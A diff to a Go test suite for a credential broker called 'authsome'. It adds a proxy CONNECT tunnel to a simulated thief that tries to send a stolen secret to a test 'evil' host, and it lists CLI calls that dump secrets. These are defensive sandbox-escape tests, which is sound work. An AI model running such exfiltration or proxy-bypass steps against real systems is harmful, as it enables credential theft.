@@ -3,11 +3,13 @@
 package attack_test
 
 import (
+	"bufio"
 	"bytes"
 	"encoding/json"
 	"fmt"
 	"net"
 	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -25,6 +27,7 @@ type plan struct {
 	Vault    string   // the home of authsome
 	Secret   string   // by which it is recognised; a real thief would look for its shape
 	TCP, UDP []string // where it would like to send it
+	Proxied  []string // what it would like to reach through the proxy
 }
 
 // thief carries out a plan and prints what it got, a line for each thing. It gives up every capability first: tests are
@@ -125,6 +128,11 @@ func (p plan) network() {
 			loot("a connection to %s", address)
 		}
 	}
+	for _, address := range p.Proxied {
+		if status := p.connect(address); status == http.StatusOK {
+			loot("a connection to %s through the proxy", address)
+		}
+	}
 	for _, address := range p.UDP {
 		conn, err := net.Dial("udp", address)
 		if err != nil {
@@ -138,6 +146,26 @@ func (p plan) network() {
 		}
 		_ = conn.Close()
 	}
+}
+
+// connect asks the proxy of the environment for a tunnel, and returns the status of the answer.
+func (plan) connect(address string) int {
+	proxy, err := url.Parse(os.Getenv("HTTPS_PROXY"))
+	if err != nil {
+		return 0
+	}
+	conn, err := net.DialTimeout("tcp", proxy.Host, 2*time.Second)
+	if err != nil {
+		return 0
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(patience))
+	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %[1]s\r\nProxy-Authorization: %s\r\n\r\n", address, basic(proxy.User))
+	resp, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: http.MethodConnect})
+	if err != nil {
+		return 0
+	}
+	return resp.StatusCode
 }
 
 // steal has a thief try a plan, and fails the test when it got something.
@@ -201,8 +229,12 @@ func askingTheCommand(t *testing.T) {
 	program := r.cmd.Path
 	// Outside a sandbox an agent may do what its user may. What it was shown is written down.
 	reveals := [][]string{
-		{"get", "victim", "--show-secret"}, {"get", "victim", "--field", "api_key", "--show-secret"},
-		{"get", "victim", "--json", "--show-secret"}, {"export", "victim"}, {"export"}, {"export", "victim", "--format", "json"},
+		{"get", "victim", "--show-secret"},
+		{"get", "victim", "--field", "api_key", "--show-secret"},
+		{"get", "victim", "--json", "--show-secret"},
+		{"export", "victim"},
+		{"export"},
+		{"export", "victim", "--format", "json"},
 	}
 	for _, args := range reveals {
 		if d := r.order(t, nil, append([]string{program}, args...)...); d.Code != 0 || !strings.Contains(d.Output, w.secret) {
@@ -217,8 +249,10 @@ func askingTheCommand(t *testing.T) {
 		t.Errorf("authsome run -- env shows the secret: %s", d)
 	}
 	for _, args := range [][]string{
-		{"connection", "set", "victim", "--redact", "off"}, {"connection", "set", "victim", "--new-credentials", "allow"},
-		{"trust"}, {"untrust"},
+		{"connection", "set", "victim", "--redact", "off"},
+		{"connection", "set", "victim", "--new-credentials", "allow"},
+		{"trust"},
+		{"untrust"},
 	} {
 		if d := r.order(t, nil, append([]string{program}, args...)...); d.Code != 10 {
 			t.Errorf("in a run, authsome %s: %s", args, d)
@@ -248,7 +282,9 @@ func askingTheCommand(t *testing.T) {
 // 30: the child looks into the broker, and for a way past it.
 func readingTheBroker(t *testing.T) {
 	w := newWorld(t, setup{})
-	outside := plan{TCP: []string{w.evil.address, w.victim.address}, UDP: []string{answerUDP(t)}}
+	outside := plan{
+		TCP: []string{w.evil.address, w.victim.address}, UDP: []string{answerUDP(t)}, Proxied: []string{w.evil.address},
+	}
 	// The network is there for those who are not in a sandbox: the thief knows how to use it.
 	r := w.run(t)
 	text, _ := json.Marshal(outside) //nolint:errchkjson // strings
@@ -256,7 +292,7 @@ func readingTheBroker(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if d := r.order(t, nil, self, asThief, string(text)); strings.Count(d.Output, "LOOT") != 3 {
+	if d := r.order(t, nil, self, asThief, string(text)); strings.Count(d.Output, "LOOT") != 4 {
 		t.Fatalf("without a sandbox the thief fails: %s", d)
 	}
 	// The broker is closed in any case.
@@ -268,6 +304,10 @@ func readingTheBroker(t *testing.T) {
 	outside.Broker, outside.Vault, outside.Secret = r.cmd.Process.Pid, w.home.Dir, w.secret
 	r.steal(t, "in a sandbox", outside)
 	r.steal(t, "in a sandbox, past the proxy", outside, "NO_PROXY=*", "no_proxy=*", "HTTPS_PROXY=", "https_proxy=")
+	// And who is outside cannot use what was stolen inside.
+	if status := r.knock(); status != 0 {
+		t.Errorf("the proxy of the sandbox answers outside: %d", status)
+	}
 	if d := r.order(t, nil, "env"); strings.Contains(d.Output, w.secret) {
 		t.Errorf("the environment holds the secret: %s", d)
 	}
@@ -301,6 +341,27 @@ func (w *world) leavesNoCore(t *testing.T) {
 	if stderr, ok := cmd.Stderr.(*strings.Builder); !ok || strings.Contains(stderr.String(), w.secret) {
 		t.Error("what a crash prints holds the secret")
 	}
+}
+
+// knock asks for the proxy of a sandbox from outside, with its password, and returns the status of an answer that could be
+// the proxy's. Another program may have a port of the same number.
+func (r *running) knock() int {
+	conn, err := net.Dial("tcp", r.env["AUTHSOME_BROKER"])
+	if err != nil {
+		return 0
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
+	proxy, err := url.Parse(r.env["HTTPS_PROXY"])
+	if err != nil {
+		return 0
+	}
+	fmt.Fprintf(conn, "GET http://%s/ HTTP/1.1\r\nHost: %[1]s\r\nProxy-Authorization: %s\r\n\r\n", victimHost, basic(proxy.User))
+	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+	if err != nil || resp.StatusCode != http.StatusForbidden {
+		return 0
+	}
+	return resp.StatusCode
 }
 
 // udpEscape is a part of 19: what the client was not told of it tries nevertheless.
